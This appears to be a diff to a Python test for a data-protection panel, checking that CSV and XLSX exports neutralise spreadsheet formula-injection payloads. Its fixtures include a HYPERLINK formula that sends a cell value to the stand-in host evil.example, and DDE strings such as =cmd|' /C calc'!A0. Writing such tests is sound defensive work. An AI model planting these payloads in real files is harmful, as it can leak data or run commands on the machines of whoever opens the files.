@@ -32,7 +32,7 @@ from dpa_panel.db import session_scope
 from dpa_panel.exports import EXPORTS
 from dpa_panel.models import DataSubject, DestructionAct, MembershipApplication
 from dpa_panel.models.types import utcnow
-from dpa_panel.services import audit, tabular
+from dpa_panel.services import audit, requests, tabular
 from dpa_panel.services import disclosures as ds
 from dpa_panel.services import statistics as st
 from dpa_panel.services.applications import local_date
@@ -148,12 +148,20 @@ def world(engine):
                 digest="@SUM(1+1)", batch_id="+2+3",
             )
         )  # fmt: skip
+    # 5. A data-subject request whose requester and contact an officer typed as payloads.
+    with session_scope(engine) as s:
+        requests.create_request(
+            s, Actor.user(officer), kind="access", received_at=now, channel="email",
+            requester="=HYPERLINK(\"http://evil.example\",\"x\")", contact="@SUM(1+1)",
+            now=now,
+        )  # fmt: skip
     with session_scope(engine) as s:
         subjects = s.scalars(select(DataSubject).order_by(DataSubject.id)).all()
         person_values = [getattr(x, f) for x in subjects for f in (*NAME_FIELDS, "other_info")]
         names = [full_name(x.surname, x.first_name, x.patronymic) for x in subjects]
         phones = [x.phone for x in subjects]
     person_values = [v for v in person_values if v and needs_neutralising(v)]
+    request_cells = ['=HYPERLINK("http://evil.example","x")', "@SUM(1+1)"]
     register = ['=HYPERLINK("http://evil.example/?x="&A1,"ҚР ІІМ")', "@SUM(1+1)", "=2+3",
                 "-2+3+cmd|' /C calc'!A0", "+2+3"]  # fmt: skip
     # As typed, less the white space the form strips ("   =1+1" is stored as "=1+1").
@@ -167,6 +175,8 @@ def world(engine):
         "disclosure_log_csv": ({"language": "ru"}, register),
         "disclosure_log_xlsx": ({"language": "en"}, register),
         "audit_csv": ({}, ["=cmd|' /C calc'!A0", "\t=1+1", "@SUM(1+1)"]),
+        "requests_csv": ({"language": "kk"}, request_cells),
+        "requests_xlsx": ({"language": "ru"}, request_cells),
         "acts_csv": (
             {},
             ["=2+3", "\r=1+1", "=1+1;=2", "=cmd|' /C calc'!A0", "-", "@SUM(1+1)", "+2+3"],
@@ -184,6 +194,8 @@ SCENARIOS = {
     "disclosure_log_xlsx": ["disclosure_log_xlsx"],
     "audit_csv": ["audit_csv"],
     "acts_csv": ["acts_csv"],
+    "requests_csv": ["requests_csv"],
+    "requests_xlsx": ["requests_xlsx"],
     "stats_csv": [],
     "stats_xlsx": [],
 }
@@ -251,7 +263,7 @@ def test_payloads_come_out_neutralised_in_every_export(world):
             missing = [p for p in expected if "'" + p not in cells]
             assert not missing, (scenario, missing)
             checked.append(scenario)
-    assert len(checked) == 7
+    assert len(checked) == 9
 
 
 @pytest.mark.parametrize("kind", ["stats_csv", "stats_xlsx"])
